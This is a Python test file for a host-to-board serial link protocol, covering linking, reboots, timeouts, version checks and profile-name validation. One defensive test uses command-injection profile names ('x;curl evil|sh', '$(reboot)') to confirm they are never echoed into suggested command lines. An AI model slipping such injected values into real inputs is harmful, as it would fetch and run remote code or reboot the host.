"""The host's end of the wire: how links begin and end, and what the user reads."""

import re
from dataclasses import replace

import pytest

from controller.messages import LANGUAGES, catalogue, word
from controller.ports import (
    BoardEvent,
    Capabilities,
    Health,
    Identity,
    Linked,
    Refresh,
    Refused,
    Sensors,
    Unlinked,
)
from hardware.serial_board import link_errors
from hardware.serial_board.line import LineTrouble
from hardware.wire import Envelope, seal
from hardware.wire.packets import Configure, Greet, Hello, Ping, Reset, Shape, Type
from tests.hardware.serial_board.fake_board import HELLO, PROFILE, packets
from tests.hardware.serial_board.wired import Wired, matrix, without_state


def unlinked(events: list[BoardEvent]) -> list[LineTrouble]:
    return [LineTrouble(event.cause, event.cure) for event in events if isinstance(event, Unlinked)]


def kinds(events: list[BoardEvent]) -> list[type]:
    return [type(event) for event in without_state(events)]


def test_a_board_is_linked_with_and_reports_everything() -> None:
    wired = Wired(first_link=4711)
    wired.board.now = matrix((4, 3))
    linked, first = wired.run(200)
    assert linked == Linked(
        Identity(bytes(range(16)).hex(), PROFILE.name, "1.4.2"),
        Capabilities(10, 21, 70, reports_raw=True),
        1.5,
    )
    assert isinstance(first, Sensors)
    assert (first.debounced, first.raw, first.board_ms) == (matrix((4, 3)), None, 1)
    assert wired.board.link == 4711
    assert wired.board.limits == Configure(PROFILE.cap_ma, 5, 5)


@pytest.mark.parametrize("noise", [b"", b"\x00\xff" * 40, b"\r\nstk500\x00\x00", bytes(range(256)) * 9])
def test_nothing_is_said_before_a_hello(noise: bytes) -> None:
    wired = Wired()
    wired.board.is_hung = True
    for _ in range(100):
        wired.to_host.send(noise + b"\0", wired.now_ms)
        wired.host.ask(Refresh(), wired.now_ms)
        wired.run(100)
    assert wired.to_board.sent == b""


def test_what_speaks_without_a_hello_gets_no_byte() -> None:
    wired = Wired().linked()
    wired.host.lost(link_errors.SILENT, wired.now_ms)
    wired.run(50)
    wired.host.opened(wired.now_ms)
    said = len(wired.to_board.sent)
    wired.board.change(matrix((0, 0)), wired.now_ms)
    wired.run(1500)
    assert wired.board.reported
    assert len(wired.to_board.sent) == said
    wired.run(600)
    assert kinds(wired.events[-4:])[-2:] == [Linked, Sensors]


def test_a_line_without_a_board_is_reported_once_and_listened_to_further() -> None:
    wired = Wired()
    wired.board.is_hung = True
    assert wired.run(2999) == []
    (event,) = wired.run(60_000)
    assert event == Unlinked(link_errors.MUTE.cause, link_errors.MUTE.cure, 3000)
    wired.board.is_hung = False
    assert kinds(wired.run(300)) == [Linked, Sensors]


def test_a_line_on_which_something_else_speaks_is_reported_as_such() -> None:
    wired = Wired()
    wired.board.is_hung = True
    wired.to_host.send(b"$GPGGA,120000\r\n\0", 0)
    assert unlinked(wired.run(10_000)) == [link_errors.NO_BOARD]


def test_every_link_has_another_number() -> None:
    wired = Wired(first_link=0xFFFE)
    links = []
    for _ in range(4):
        wired.run(300)
        links.append(wired.board.link)
        wired.board.restart(wired.now_ms, Reset.LINE)
    assert links == [0xFFFE, 0xFFFF, 1, 2]


def test_greet_is_said_again_until_it_is_answered() -> None:
    wired = Wired()
    wired.to_board.is_cut = True
    wired.run(260)
    assert packets(wired.to_board.sent) == [Greet(1), Greet(1), Greet(1)]
    wired.to_board.is_cut = False
    assert kinds(wired.run(100)) == [Linked, Sensors]


def test_a_board_that_does_not_hear_is_reported_once() -> None:
    wired = Wired()
    wired.to_board.is_cut = True
    assert unlinked(wired.run(20_000)) == [link_errors.DEAF]
    wired.to_board.is_cut = False
    assert kinds(wired.run(300)) == [Linked, Sensors]


def test_a_board_that_says_nothing_for_long_does_not_answer() -> None:
    wired = Wired().linked()
    quiet_ms = wired.now_ms
    wired.board.is_hung = True
    (event,) = wired.run(60_000)
    assert isinstance(event, Unlinked)
    assert (event.cause, event.cure) == (link_errors.SILENT.cause, link_errors.SILENT.cure)
    assert quiet_ms + 500 < event.at_ms < quiet_ms + 710
    assert event.heard_ms is not None
    assert quiet_ms - 200 < event.heard_ms <= quiet_ms


def test_after_the_silence_of_a_board_nothing_is_said_until_it_says_hello() -> None:
    wired = Wired().linked()
    wired.board.is_hung = True
    wired.run(2000)
    said = wired.to_board.sent
    wired.run(10_000)
    assert wired.to_board.sent == said
    wired.board.is_hung = False
    wired.board.restart(wired.now_ms, Reset.WATCHDOG)
    assert kinds(wired.run(300)) == [Linked, Sensors]


def test_a_silent_board_is_asked_every_50_ms() -> None:
    wired = Wired().linked()
    wired.run(290)
    wired.board.is_hung = True
    heard_ms, said = wired.host._heard_ms, len(packets(wired.to_board.sent))
    asked: list[float] = []
    while wired.now_ms < heard_ms + 690:
        wired.run(1)
        now = len(packets(wired.to_board.sent))
        asked += [wired.now_ms - heard_ms] * (now - said)
        said = now
    assert asked == pytest.approx([300 + 50 * n for n in range(8)], abs=1.01)
    assert set(packets(wired.to_board.sent)[-8:]) == {Ping()}


def test_a_host_is_never_silent_for_longer_than_500_ms() -> None:
    wired = Wired().linked()
    wired.board.now = matrix((1, 1))
    for n in range(500):
        wired.board.change(matrix((n % 10, 1)), wired.now_ms)
        said = len(wired.to_board.sent)
        wired.run(20)
        assert len(wired.to_board.sent) > said
    assert wired.board.link == 1


@pytest.mark.parametrize(
    ("reset", "part"),
    [
        (Reset.WATCHDOG, "watchdog"),
        (Reset.SUPPLY, "lost its power"),
        (Reset.SUPPLY | Reset.BROWN_OUT, "lost its power"),
        (Reset.BROWN_OUT, "supply broke down"),
        (Reset.LINE, "reset line"),
        (Reset.WATCHDOG | Reset.LINE, "watchdog"),
        (Reset(0), "by itself"),
    ],
)
def test_a_reboot_is_reported_with_its_cause_and_the_board_is_linked_with_anew(
    reset: Reset, part: str
) -> None:
    wired = Wired().linked()
    wired.board.restart(wired.now_ms, reset)
    events = without_state(wired.run(300))
    assert [type(event) for event in events] == [Unlinked, Linked, Sensors]
    assert isinstance(events[0], Unlinked)
    assert part in word(events[0].cause)
    assert wired.board.link == 2


def test_a_reboot_of_which_every_hello_but_the_last_is_lost_is_found_too() -> None:
    wired = Wired().linked()
    wired.run(1000)
    wired.board.restart(wired.now_ms, Reset.WATCHDOG)
    wired.board._leave(wired.now_ms, 1)
    wired.board.change(matrix((5, 5)), wired.now_ms)
    events = without_state(wired.run(1500))
    assert [type(event) for event in events] == [Unlinked, Linked, Sensors]
    assert isinstance(events[0], Unlinked)
    assert "watchdog" in word(events[0].cause)


def test_a_board_that_had_to_drop_reports_begins_a_new_link() -> None:
    wired = Wired().linked()
    wired.board.overflow(wired.now_ms)
    events = without_state(wired.run(300))
    assert [type(event) for event in events] == [Unlinked, Linked, Sensors]
    assert unlinked(events) == [link_errors.LEFT]


def test_packets_of_another_link_begin_a_new_one() -> None:
    wired = Wired().linked()
    wired.board.link = 999
    events = without_state(wired.run(700))
    assert [type(event) for event in events] == [Unlinked, Linked, Sensors]
    assert wired.board.link == 2


def test_a_host_that_slept_is_linked_with_anew() -> None:
    wired = Wired().linked()
    wired.is_host_asleep = True
    wired.run(10_000)
    wired.is_host_asleep = False
    assert kinds(wired.run(300))[-3:] == [Unlinked, Linked, Sensors]


def test_another_board_is_reported_as_such() -> None:
    wired = Wired().linked()
    wired.board.hello = replace(HELLO, board_id=bytes(16))
    wired.board.boot(wired.now_ms)
    events = wired.run(200)
    assert unlinked(events) == [link_errors.EXCHANGED]
    assert isinstance(events[1], Linked)
    assert events[1].identity.board_id == "00" * 16


@pytest.mark.parametrize(
    ("hello", "words"),
    [
        (replace(HELLO, profile="sq36-dual-mega"), ("sq36-dual-mega", "hex70-dual-mega")),
        (replace(HELLO, profile=""), ("no name", "manalath flash")),
        (replace(HELLO, profile="Hex|70"), ("'Hex|70', but", "must be 1 to 32 lower-case letters")),
        (replace(HELLO, shape=Shape(10, 20, 70)), ("20 columns", "21 columns")),
        (replace(HELLO, shape=Shape(10, 21, 71)), ("71 lights", "70 lights")),
    ],
)
def test_a_board_that_does_not_fit_is_refused_by_name(hello: Hello, words: tuple[str, str]) -> None:
    wired = Wired()
    wired.board.hello = hello
    (trouble,) = unlinked(wired.run(20_000))
    for part in words:
        assert part in word(trouble.message)
    assert wired.to_board.sent == b""
    wired.board.hello = HELLO
    assert kinds(wired.run(300)) == [Linked, Sensors]


@pytest.mark.parametrize("text", ["\x1b[2Jboo", "two\nlines", "\x7f", "\0", "tab\t"])
def test_a_name_that_is_not_printable_is_no_hello(text: str) -> None:
    wired = Wired()
    wired.board.hello = replace(HELLO, profile=text)
    assert unlinked(wired.run(5000)) == [link_errors.NO_BOARD]
    assert wired.to_board.sent == b""


@pytest.mark.parametrize(
    ("name", "is_suggested"),
    [("sq36-dual-mega", True), ("x;curl evil|sh", False), ("$(reboot)", False), ("hex70-dual-mega2", False)],
)
def test_only_a_profile_that_ships_is_suggested_for_the_command_line(
    name: str, *, is_suggested: bool
) -> None:
    wired = Wired()
    wired.board.hello = replace(HELLO, profile=name)
    (trouble,) = unlinked(wired.run(500))
    for words in map(catalogue, LANGUAGES):
        assert (f"serial:auto@{name}" in word(trouble.cure, words)) is is_suggested
        assert (name in word(trouble.cure, words)) is is_suggested
        assert re.search(f"['«\xa0\u202f]{re.escape(name)}['»\xa0\u202f]", word(trouble.cause, words))


@pytest.mark.parametrize("is_fitting_between", [False, True])
def test_a_board_that_says_another_name_each_time_is_reported_once_and_counted(
    *, is_fitting_between: bool
) -> None:
    wired = Wired()
    wired.to_board.is_cut = True
    for number in range(50):
        strange = replace(HELLO, profile=f"name {number}")
        wired.board.hello = HELLO if is_fitting_between and number % 2 else strange
        wired.run(100)
    (trouble,) = unlinked(wired.events)
    assert "name 0" in word(trouble.cause)
    assert wired.host._counts["host_strange"] > 20
    wired.to_board.is_cut = False
    wired.board.hello = HELLO
    assert kinds(wired.run(400))[-2:] == [Linked, Sensors]
    wired.board.hello = replace(HELLO, profile="another")
    wired.board.boot(wired.now_ms)
    assert "another" in word(unlinked(wired.run(400))[0].cause)


def test_a_board_that_is_exchanged_for_one_that_does_not_fit_is_refused() -> None:
    wired = Wired().linked()
    wired.board.hello = replace(HELLO, board_id=bytes(16), profile="sq36-dual-mega")
    wired.board.boot(wired.now_ms)
    (trouble,) = unlinked(wired.run(10_000))
    assert "sq36-dual-mega" in word(trouble.cause)


def test_another_major_version_is_refused_with_its_cure() -> None:
    wired = Wired()
    wired.board.is_hung = True
    for n in range(20):
        wired.to_host.send(seal(Envelope(Type.HELLO, n, b"\x02\x03\x09\x08\x07\xc0\xff\xee")), wired.now_ms)
        wired.run(250)
    (trouble,) = unlinked(wired.events)
    assert "9.8.7" in word(trouble.cause)
    assert "manalath flash" in word(trouble.cure)
    assert wired.to_board.sent == b""


def test_a_higher_minor_version_is_spoken_with() -> None:
    wired = Wired()
    wired.board.hello = replace(HELLO, minor=7)
    assert kinds(wired.run(100)) == [Linked, Sensors]


def test_limits_are_asked_for_until_they_are_kept() -> None:
    wired = Wired()
    wired.run(1.2)
    wired.to_board.is_cut = True
    wired.run(250)
    limits = Configure(PROFILE.cap_ma, 5, 5)
    assert wired.board.limits != limits
    wired.to_board.is_cut = False
    wired.run(150)
    assert wired.board.limits == limits
    said = packets(wired.to_board.sent).count(limits)
    wired.run(3000)
    assert packets(wired.to_board.sent).count(limits) == said


def test_a_board_that_cannot_keep_the_limits_is_refused_until_it_starts_anew() -> None:
    wired = Wired()
    wired.board.takes_limits = False
    assert unlinked(wired.run(20_000)) == [link_errors.IMPOSSIBLE]
    wired.board.takes_limits = True
    wired.board.restart(wired.now_ms, Reset.LINE)
    assert kinds(wired.run(300)) == [Linked, Sensors]


def test_a_lost_line_is_reported_once_and_closed_until_it_is_opened() -> None:
    wired = Wired().linked()
    wired.host.lost(link_errors.SILENT, wired.now_ms)
    wired.host.lost(link_errors.SILENT, wired.now_ms)
    wired.flush()
    assert kinds(wired.events)[2:] == [Unlinked]
    wired.host.opened(wired.now_ms)
    wired.board.boot(wired.now_ms)
    assert kinds(wired.run(200)) == [Linked, Sensors]


def test_a_refresh_before_the_board_is_known_is_answered_by_its_first_report() -> None:
    wired = Wired()
    wired.host.ask(Refresh(), 0.0)
    assert kinds(wired.run(300)) == [Linked, Sensors]


def test_a_refresh_is_refused_where_there_is_no_board() -> None:
    wired = Wired()
    wired.board.is_hung = True
    wired.host.ask(Refresh(), 0.0)
    assert kinds(wired.run(5000)) == [Unlinked, Refused]
    wired.host.ask(Refresh(), wired.now_ms)
    assert kinds(wired.run(5000)) == [Refused]


def test_a_refresh_that_the_board_does_not_live_to_answer_is_refused() -> None:
    wired = Wired().linked()
    wired.board.is_hung = True
    wired.host.ask(Refresh(), wired.now_ms)
    assert kinds(wired.run(5000)) == [Unlinked, Refused]


def test_health_reports_what_the_board_counts_and_what_the_host_counts() -> None:
    wired = Wired().linked()
    wired.to_host.send(b"\x05\x02\0" + b"\x05\x02\x17\x0b\x8a\0", wired.now_ms)
    wired.to_host.send(seal(Envelope(0xEE, 0, b"")), wired.now_ms)
    wired.host.receive(seal(Envelope(Type.PONG, 0, b"")), wired.now_ms)
    (health,) = [event for event in wired.run(400) if isinstance(event, Health)]
    assert health.supply_mv == 4987
    assert health.counters["cap_ma"] == 800
    counted = {name: count for name, count in health.counters.items() if name.startswith("host_") and count}
    assert counted == {"host_framing": 1, "host_checksum": 1, "host_rejected": 2, "host_links": 1}
    assert "supply_mv" not in health.counters


def test_a_board_that_does_not_measure_its_supply_reports_none() -> None:
    wired = Wired().linked()
    wired.board.supply_mv = 0
    (health,) = [event for event in wired.run(400) if isinstance(event, Health)]
    assert health.supply_mv is None
